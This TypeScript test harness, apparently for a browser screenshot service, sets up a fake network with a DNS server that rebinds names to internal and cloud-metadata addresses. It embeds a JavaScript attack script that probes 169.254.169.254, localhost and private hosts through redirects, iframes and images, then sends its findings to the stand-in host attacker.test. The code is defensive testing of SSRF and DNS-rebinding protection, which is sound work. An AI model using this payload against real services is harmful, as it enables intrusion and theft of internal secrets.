/**
 * A network in which every place pages must not reach is really there, and names have the addresses an
 * attacker gives them. Run by `own-network.engines.test.ts` as a program, inside namespaces of its own, where nothing of
 * the machine is touched; says what came of it as JSON.
 */
import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { join } from 'node:path';
import { engineNames } from '@twinlens/browser';
import dns2 from 'dns2';
import { typeOf } from '../engine-types.ts';
import type { Work } from '../server-double.ts';
import { packageWork, pageOf, startTestWorker } from '../worker-fixture.ts';

const [engine, folder = ''] = process.argv.slice(2);
const type = typeOf[engineNames.find((name) => name === engine) ?? 'chromium'];

/** A public address, which is the attacker's here. */
const attacker = '93.184.216.34';
const forbidden = ['169.254.169.254', '100.100.100.200', '10.0.0.1', '192.168.0.1', '127.0.0.1'];
const forbidden6 = ['fd00:ec2::254', '::1'];

const ip = (...args: string[]) => execFileSync('ip', args);
ip('link', 'set', 'lo', 'up');
for (const address of [attacker, ...forbidden.slice(0, -1)])
  ip('address', 'add', `${address}/32`, 'dev', 'lo');
ip('address', 'add', `${forbidden6[0]}/128`, 'dev', 'lo', 'nodad');
const resolver = join(folder, 'resolv.conf');
await writeFile(resolver, 'nameserver 127.0.0.1\noptions attempts:1 timeout:2\n');
execFileSync('mount', ['--bind', resolver, '/etc/resolv.conf']);

/** How often each name has been asked for. */
const asked = new Map<string, number>();

/** What a name has the next time it is asked for; names say it themselves, as those of public services do. */
function addressesOf(name: string): string[] {
  const count = (asked.get(name) ?? 0) + 1;
  asked.set(name, count);
  if (name === 'attacker.test') return [attacker];
  // The attack: first the attacker's server, from then on a place inside.
  if (name === 'first-mine.test') return [count === 1 ? attacker : '127.0.0.1'];
  if (name === 'by-turns.test') return [count % 2 === 1 ? attacker : '169.254.169.254'];
  if (name === 'both.test') return ['127.0.0.1', attacker];
  if (name.startsWith('inside')) return ['127.0.0.1'];
  if (name === 'metadata.google.internal') return ['169.254.169.254'];
  return [];
}

const dns = dns2.createServer({
  udp: true,
  handle(request, send) {
    const response = dns2.Packet.createResponseFromRequest(request);
    const { createResourceFromQuestion, TYPE } = dns2.Packet;
    for (const question of request.questions) {
      if (question.type !== TYPE.A) continue;
      for (const address of addressesOf(question.name))
        response.answers.push(createResourceFromQuestion(question, { ttl: 0, address }));
    }
    send(response);
  },
});
await dns.listen({ udp: { port: 53, address: '127.0.0.1' } });

/** Who was reached that must not be. */
const reached: string[] = [];
for (const address of [...forbidden, ...forbidden6]) {
  const server = createTcpServer((socket) => {
    reached.push(address);
    socket.on('error', () => undefined);
    socket.end(
      'HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 6\r\n\r\nsecret',
    );
  });
  server.listen(80, address);
  await once(server, 'listening');
}

/** What pages of the attacker have said, and which of its pages were asked for. */
const said: string[] = [];
const visited: string[] = [];

const inside = [...forbidden, ...forbidden6.map((address) => `[${address}]`)];

/** Asks for a place again and again, as the attack needs, and says what came of it. */
const attack = `const say = (text) => fetch('http://attacker.test/say/' + encodeURIComponent(text), { mode: 'no-cors' }).catch(() => 0);
  const look = (url) => fetch(url).then(async (r) => say(((await r.text()) === 'secret' ? 'reached ' : 'refused ') + url), () => say('refused ' + url));
  for (let again = 0; again < 4; again += 1) await look(location.origin + '/secret?' + again);
  for (const name of ['by-turns.test', 'both.test', 'inside.test', 'metadata.google.internal'])
    for (let again = 0; again < 3; again += 1) await look('http://' + name + '/?' + again);
  for (const place of ${JSON.stringify(inside)}) {
    await look('http://attacker.test/redirect/' + encodeURIComponent('http://' + place + '/'));
    await look('http://' + place + '/');
    const frame = Object.assign(document.createElement('iframe'), { src: 'http://attacker.test/redirect/' + encodeURIComponent('http://' + place + '/') });
    document.body.append(frame);
    document.body.append(Object.assign(new Image(), { src: 'http://attacker.test/redirect/' + encodeURIComponent('http://' + place + '/') }));
  }
  await look('http://attacker.test/endless/1');
  await new Promise((end) => setTimeout(end, 500));`;

function serve({ url = '' }: IncomingMessage, response: ServerResponse): void {
  const [, verb = '', rest = ''] = url.split('/');
  visited.push(verb);
  const open = { 'access-control-allow-origin': '*' };
  if (verb === 'say') {
    said.push(decodeURIComponent(rest));
    response.writeHead(204, open).end();
  } else if (verb === 'redirect') {
    response.writeHead(302, { ...open, location: decodeURIComponent(rest) }).end();
  } else if (verb === 'endless') {
    const location = `/endless/${Number(rest) + 1}`;
    response.writeHead(302, { ...open, location }).end();
  } else {
    response.writeHead(200, { ...open, 'content-type': 'text/html' });
    response.end(`<!doctype html><body><p>a page</p><script type="module">${attack}</script>`);
  }
}
const site = createServer(serve);
site.listen(80, attacker);
await once(site, 'listening');

const test = await startTestWorker({ targets: [type], cache: join(folder, 'cache') });
const innocent = packageWork(pageOf([{ html: '<p style="font:30px serif">As before</p>' }]));
const picture = async () => {
  const { snapshots } = await test.server.capture({ ...innocent, type });
  return snapshots.map(({ image }) => image.hash).join();
};
const before = await picture();

async function run(work: Work): Promise<{ failed: string[]; log: string[] }> {
  const { failed = [], log } = await test.server.partly({ ...work, type });
  return { failed: failed.map(({ message }) => message), log: log.map(({ text }) => text) };
}

const pages = await run({
  payload: {
    viewport: '400x300',
    pages: [
      { title: 'rebound', url: 'http://first-mine.test/', waitForContent: 'a page' },
      { title: 'inside', url: 'http://inside.test/' },
      {
        title: 'led inside',
        url: `http://attacker.test/redirect/${encodeURIComponent('http://127.0.0.1/')}`,
      },
      { title: 'led without end', url: 'http://attacker.test/endless/1' },
    ],
  },
});
const inPackage = await run(packageWork(pageOf([{ html: '<p>x</p>', code: attack }])));
const after = await picture();
await test.stop();
const outcome = { reached, said, visited: [...new Set(visited)], pages, inPackage };
process.stdout.write(
  JSON.stringify({ ...outcome, asked: Object.fromEntries(asked), same: before === after }),
);
process.exit(0);
